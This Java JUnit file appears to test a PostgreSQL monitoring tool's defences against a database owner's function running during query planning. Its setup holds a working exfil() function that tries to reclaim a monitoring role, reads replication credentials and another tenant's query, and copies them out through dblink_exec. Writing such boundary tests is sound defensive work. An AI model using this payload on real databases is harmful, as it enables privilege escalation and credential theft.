package io.pgharvest.kind.postgres;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.pgharvest.kind.SessionSettings;
import io.pgharvest.model.connection.ConnectionString;
import io.pgharvest.nativemetric.PlanningLogin;
import io.pgharvest.testsupport.TestPostgres;
import java.sql.Connection;
import java.sql.SQLException;
import java.sql.Statement;
import java.time.Duration;
import java.time.Instant;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * What a database owner can make a plan run, on a real server where dblink is installed: planning
 * folds an immutable function the application's statement names into its value by calling it, and
 * the owner's function copies what it can read into the owner's own table through
 * {@code dblink_exec} (a write the rollback of the plan's read-only transaction does not undo). It
 * first tries to become pgharvest's monitoring role again ({@code set_config('role', ...)}, what
 * {@code RESET ROLE} does), then stores {@code primary_conninfo} and another tenant's running query.
 * Planned as the monitoring role (what query_plans did) or after {@code SET ROLE} to a planning role
 * it gets both; planned on the planning role's own login it gets neither: the server, not pgharvest,
 * keeps that session from becoming anyone else. A planning role that can read more is refused
 * before anything is planned; a superuser's plan is never made.
 */
class GenericPlanBoundaryTest {

    private static final String DB = "owned_plans";
    private static final Duration TIMEOUT = Duration.ofSeconds(5);
    private static final String REPLICATION_SECRET = "repl-secret-5151";
    private static final String TENANT_SECRET = "tenant-secret-6262";
    /** The application's statement, as pg_stat_statements keeps it: the owner's function unqualified. */
    private static final String RUNS_OWNER_CODE = "select id from items where id = exfil()";
    private static final String TAKES_A_LOCK = "select id from items where id = lock_stamp()";
    private static TestPostgres server;
    private static Connection tenant;

    @BeforeAll
    static void startServer() throws Exception {
        server = TestPostgres.start(Map.of());
        server.execute("postgres", "create role app_owner login password 'owner-pw'");
        server.execute("postgres", "create role tenant_b login password 'tenant-pw'");
        server.execute("postgres", "create role plan_monitor login password 'monitor-pw' in role pg_monitor,"
                + " pg_read_all_data");
        server.execute("postgres", "create role plan_only login password 'plan-pw' in role pg_read_all_data");
        server.execute("postgres", "create role plan_too_much login password 'much-pw' in role pg_read_all_stats");
        server.execute("postgres", "grant plan_only to plan_monitor");
        server.execute("postgres", "create role plan_member login password 'member-pw' noinherit in role plan_monitor");
        server.execute("postgres", "alter system set primary_conninfo = 'host=10.9.9.9 password=" + REPLICATION_SECRET
                + "'");
        server.queryString("postgres", "select pg_reload_conf()::text");
        server.createDatabase(DB);
        server.execute("postgres", "alter database " + DB + " owner to app_owner");
        server.execute(DB, "create extension dblink"); // installed by the server's administrator
        server.execute(DB, "create table items (id int primary key)");
        server.execute(DB, "insert into items select generate_series(1, 100)");
        server.execute(DB, "create table loot (who text, conninfo text, activity text)");
        server.execute(DB, """
                create function public.exfil() returns int language plpgsql immutable as $$
                declare conninfo text; activity text;
                begin
                  begin
                    perform set_config('role', 'plan_monitor', false);
                  exception when others then null;
                  end;
                  begin
                    conninfo := current_setting('primary_conninfo');
                  exception when others then conninfo := 'denied';
                  end;
                  select string_agg(query, ' | ') into activity from pg_stat_activity where usename = 'tenant_b';
                  perform dblink_exec('host=127.0.0.1 port=%d dbname=owned_plans user=app_owner password=owner-pw',
                      format('insert into loot values (%%L, %%L, %%L)', session_user || '/' || current_user,
                             conninfo, activity));
                  return 1;
                end $$""".formatted(server.port()));
        server.execute(DB, """
                create function public.lock_stamp() returns int language plpgsql immutable as $$
                begin
                  perform pg_advisory_lock(4242);
                  return 1;
                end $$""");
        for (String object : new String[] {"table items", "table loot", "function public.exfil()",
                "function public.lock_stamp()"}) {
            server.execute(DB, "alter " + object + " owner to app_owner");
        }
        server.replaceHbaConf("""
                host all postgres 127.0.0.1/32 trust
                host all all 127.0.0.1/32 scram-sha-256
                """);
        tenant = login("tenant_b", "tenant-pw");
        Thread.ofVirtual().start(() -> {
            try (Statement s = tenant.createStatement()) {
                s.execute("select pg_sleep(120), '" + TENANT_SECRET + "'");
            } catch (SQLException e) {
                // ended with the server
            }
        });
        org.awaitility.Awaitility.await().atMost(Duration.ofSeconds(10)).until(() -> server.queryString("postgres",
                "select count(*)::text from pg_stat_activity where query like '%" + TENANT_SECRET + "%'"
                        + " and usename = 'tenant_b'"), "1"::equals);
    }

    @AfterAll
    static void stopServer() throws Exception {
        server.close();
        tenant.close();
    }

    @BeforeEach
    void emptyTheLoot() {
        server.execute(DB, "truncate loot");
    }

    @Test
    void plannedAsTheMonitoringRoleTheOwnersFunctionCopiesOutSettingsAndOtherTenantsQueries() throws Exception {
        try (Connection monitor = login("plan_monitor", "monitor-pw")) {
            new GenericPlanner(monitor).plan(RUNS_OWNER_CODE, TIMEOUT);
        }
        assertThat(loot()).contains(REPLICATION_SECRET, TENANT_SECRET);
    }

    @Test
    void setRoleToAPlanningRoleIsNoBoundaryTheFunctionSetsTheRoleBack() throws Exception {
        try (Connection connection = login("plan_monitor", "monitor-pw")) {
            try (Statement s = connection.createStatement()) {
                s.execute("set role plan_only");
            }
            new GenericPlanner(connection).plan(RUNS_OWNER_CODE, TIMEOUT);
        }
        assertThat(loot()).contains("plan_monitor/plan_monitor", REPLICATION_SECRET, TENANT_SECRET);
    }

    @Test
    void onThePlanningRolesOwnLoginTheFunctionGetsNothingOnlyThatRoleMayNotRead() throws Exception {
        try (PostgresSession monitor = open("plan_monitor", "monitor-pw");
                var planning = monitor.openPlanning(new PlanningLogin("plan_only", "plan-pw"))) {
            assertThat(planning.role()).isEqualTo("plan_only");
            assertThat(planning.genericPlan(RUNS_OWNER_CODE, TIMEOUT)).contains("items");
            assertThat(planning.genericPlan(TAKES_A_LOCK, TIMEOUT)).contains("items");
        }
        String loot = loot();
        assertThat(loot).contains("plan_only/plan_only", "denied", "<insufficient privilege>")
                .doesNotContain(REPLICATION_SECRET).doesNotContain(TENANT_SECRET);
        assertThat(advisoryLocksHeld()).as("advisory locks left by the plan").isZero();
    }

    @Test
    void aPlanningRoleThatReadsTooMuchIsRefusedBeforeAnythingIsPlanned() throws Exception {
        try (PostgresSession monitor = open("plan_monitor", "monitor-pw")) {
            assertThatThrownBy(() -> monitor.openPlanning(new PlanningLogin("plan_too_much", "much-pw")))
                    .isInstanceOf(SQLException.class).hasMessageContaining("refused to plan as plan_too_much")
                    .hasMessageContaining("pg_read_all_stats").hasMessageNotContaining("much-pw");
            assertThatThrownBy(() -> monitor.openPlanning(new PlanningLogin("plan_monitor", "monitor-pw")))
                    .hasMessageContaining("is the source's own role");
        }
        try (PostgresSession monitor = open("plan_monitor", "monitor-pw")) {
            assertThatThrownBy(() -> monitor.openPlanning(new PlanningLogin("plan_member", "member-pw")))
                    .hasMessageContaining("is a member of the source's role plan_monitor")
                    .hasMessageContaining("pg_monitor");
        }
        assertThat(loot()).isEmpty();
    }

    @Test
    void aSuperuserPlanningLoginIsRefusedSoTheOwnersFunctionNeverRunsAsASuperuser() throws Exception {
        try (PostgresSession monitor = open("plan_monitor", "monitor-pw")) {
            assertThatThrownBy(() -> monitor.openPlanning(new PlanningLogin("postgres", null)))
                    .isInstanceOf(SQLException.class).hasMessageContaining("superuser");
        }
        assertThat(loot()).isEmpty();
    }

    /** A plain session as the role: the monitoring session's planning before the planning login. */
    private static Connection login(String role, String password) throws SQLException {
        return java.sql.DriverManager.getConnection(server.jdbcUrl(DB).replace("user=postgres", "user=" + role)
                + "&password=" + password);
    }

    private static String loot() {
        return server.queryString(DB, "select coalesce(string_agg(concat_ws(' ', who, conninfo, activity), '\n'), '')"
                + " from loot");
    }

    private static long advisoryLocksHeld() {
        return Long.parseLong(server.queryString(DB,
                "select count(*)::text from pg_locks where locktype = 'advisory' and objid = 4242"));
    }

    private static PostgresSession open(String role, String password) throws Exception {
        var opener = new SessionOpener(new SessionSettings(Duration.ofSeconds(10), Duration.ofSeconds(5),
                Duration.ofSeconds(1), Duration.ofMinutes(1), false, false));
        return PostgresSession.open(opener, ConnectionString.parse("postgresql://" + role + ":" + password + "@"
                + server.host() + ":" + server.port() + "/" + DB), Instant.now());
    }
}
